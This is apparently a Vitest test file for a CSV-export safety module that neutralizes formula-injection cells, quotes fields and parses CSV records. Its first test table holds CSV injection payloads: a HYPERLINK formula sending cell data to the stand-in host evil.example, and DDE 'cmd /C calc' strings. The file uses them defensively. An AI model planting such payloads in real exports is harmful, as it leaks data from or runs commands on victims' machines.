import { describe, expect, it } from "vitest";
import { INVALID_UTF8_MARKER, characterProblem, decodeCsvBytes, parseCsvRecords } from "@/server/domain/csv-records";
import {
  FORMULA_TRIGGERS,
  csvField,
  csvLine,
  echoValue,
  isFormulaLike,
  neutralizeCell,
  neutralizeCsvFile,
  stripNeutralization,
  toSafeCsv,
} from "@/server/domain/csv-safety";

describe("neutralizeCell", () => {
  it.each([
    ["=", '=HYPERLINK("http://evil.example/?"&A1,"click")'],
    ["+", "+cmd|' /C calc'!A0"],
    ["-", "-2+3+cmd|' /C calc'!A0"],
    ["@", "@SUM(1+1)*cmd|' /C calc'!A0"],
    ["tab", "\t=1+1"],
    ["CR", "\r=1+1"],
    ["LF", "\n=1+1"],
  ])("prefixes a cell starting with %s", (_, value) => {
    expect(neutralizeCell(value)).toBe(`'${value}`);
    expect(isFormulaLike(value)).toBe(true);
  });

  it("covers every listed trigger, also after leading spaces", () => {
    for (const t of FORMULA_TRIGGERS) {
      expect(neutralizeCell(`${t}x`)).toBe(`'${t}x`);
      expect(neutralizeCell(`  ${t}x`)).toBe(`'  ${t}x`);
    }
  });

  it("neutralizes phone numbers and negative numbers alike (any column)", () => {
    expect(neutralizeCell("+380445555555")).toBe("'+380445555555");
    expect(neutralizeCell("-5")).toBe("'-5");
  });

  it.each(["", "plain", "1990-01-31", "a=b", "x+y", "ana@example.com", "10.50", "'quoted", " spaced", "José 😀", "(=1)"])(
    "leaves an already safe value untouched: %j",
    (value) => {
      expect(neutralizeCell(value)).toBe(value);
      expect(isFormulaLike(value)).toBe(false);
    },
  );

  it("is undone by stripNeutralization, which leaves any other ' alone", () => {
    for (const value of ["=1+1", "+380445555555", "-5", "@x", "\tx"]) expect(stripNeutralization(neutralizeCell(value))).toBe(value);
    for (const value of ["'plain", "''=1", "it's", "'"]) expect(stripNeutralization(value)).toBe(value);
  });
});

describe("quoting", () => {
  it("quotes a field holding a comma, a quote, a line break or edge spaces, doubling quotes", () => {
    expect(csvField("plain")).toBe("plain");
    expect(csvField("a,b")).toBe('"a,b"');
    expect(csvField('say "hi"')).toBe('"say ""hi"""');
    expect(csvField("two\nlines")).toBe('"two\nlines"');
    expect(csvField("cr\rhere")).toBe('"cr\rhere"');
    expect(csvField(" edge")).toBe('" edge"');
    expect(csvField("edge ")).toBe('"edge "');
  });

  it("a line neutralizes first, then quotes (the ' is inside the quotes)", () => {
    expect(csvLine(['=HYPERLINK("x","y")', "ok", "+1,2"])).toBe(`"'=HYPERLINK(""x"",""y"")",ok,"'+1,2"`);
    expect(
      toSafeCsv([
        ["a", "=b"],
        ["", "c"],
      ]),
    ).toBe("a,'=b\r\n,c\r\n");
  });

  it("what a served file says reads back as the neutralized values", () => {
    const records = [["=1+1", 'q"uote', "multi\nline", "-5", "@x, y"]];
    expect(parseCsvRecords(toSafeCsv(records)).records[0]).toEqual(records[0]!.map(neutralizeCell));
  });
});

describe("neutralizeCsvFile", () => {
  it("returns a file with nothing to neutralize byte for byte", () => {
    const bytes = Buffer.from('email,id\r\n"a@example.org" , x\r\n\r\n');
    const result = neutralizeCsvFile(bytes);
    expect(result.neutralizedCells).toBe(0);
    expect(Buffer.from(result.content).equals(bytes)).toBe(true);
  });

  it("rewrites a file with formulas, keeping its byte order mark, blank lines and line numbers", () => {
    const bytes = Buffer.from('\uFEFFphone,id\n+380445555555,"a\nb"\n\n+14155552671,=1+1\n');
    const result = neutralizeCsvFile(bytes);
    expect(result.neutralizedCells).toBe(3);
    const text = new TextDecoder("utf-8", { ignoreBOM: true }).decode(result.content);
    expect(text).toBe("\uFEFFphone,id\r\n'+380445555555,\"a\nb\"\r\n\r\n'+14155552671,'=1+1\r\n");
    expect(parseCsvRecords(text.slice(1)).lines).toEqual(parseCsvRecords(bytes.toString("utf8").slice(1)).lines);
  });
});

describe("echoValue", () => {
  it("cuts to 64 characters with an ellipsis, leaves short values whole", () => {
    expect(echoValue("short")).toBe("short");
    expect(echoValue("x".repeat(64))).toBe("x".repeat(64));
    expect(echoValue("x".repeat(65))).toBe(`${"x".repeat(64)}…`);
    expect(echoValue("x".repeat(1024 * 1024))).toHaveLength(65);
  });

  it("counts characters, not UTF-16 units, and never splits an emoji", () => {
    expect(echoValue("😀".repeat(64))).toBe("😀".repeat(64));
    expect(echoValue("😀".repeat(65))).toBe(`${"😀".repeat(64)}…`);
    expect(echoValue(`${"😀".repeat(64)}abc`)).toBe(`${"😀".repeat(64)}…`);
  });
});

describe("csv-records: physical lines and bytes that are not text", () => {
  it("numbers each record by the line it starts on, whatever the line ends", () => {
    for (const eol of ["\n", "\r\n", "\r"]) {
      const text = ["h1,h2", 'a,"b', "c", 'd"', "", "e,f", '"g', 'h",i'].join(eol);
      const { records, lines } = parseCsvRecords(text);
      expect(records).toEqual([["h1", "h2"], ["a", "b\nc\nd"], [""], ["e", "f"], ["g\nh", "i"]]);
      expect(lines).toEqual([1, 2, 5, 6, 7]);
    }
  });

  it("reports a quote problem on its record", () => {
    expect([...parseCsvRecords('a,b\n"x"y,z\nok,1\n').quoteProblems]).toEqual([[1, "InvalidQuotes"]]);
    expect([...parseCsvRecords('a,b\nok,1\n"open,2\n').quoteProblems]).toEqual([[2, "MissingQuotes"]]);
  });

  it("marks each invalid UTF-8 sequence once and keeps the text around it", () => {
    const decoded = decodeCsvBytes(Buffer.concat([Buffer.from("\uFEFFa,"), Buffer.from([0xe9, 0xf0, 0x9f, 0x98]), Buffer.from("é,😀\n")]));
    expect(decoded.text).toBe(`a,${INVALID_UTF8_MARKER}${INVALID_UTF8_MARKER}é,😀\n`);
    expect(decoded.invalidSequences).toBe(2);
    expect(decoded.hasNul).toBe(false);
    expect(characterProblem(decoded.text)).toBe("invalid-utf8");
    expect(characterProblem("a\0b")).toBe("nul");
    expect(characterProblem("😀 \u{10000} é")).toBeNull();
  });
});
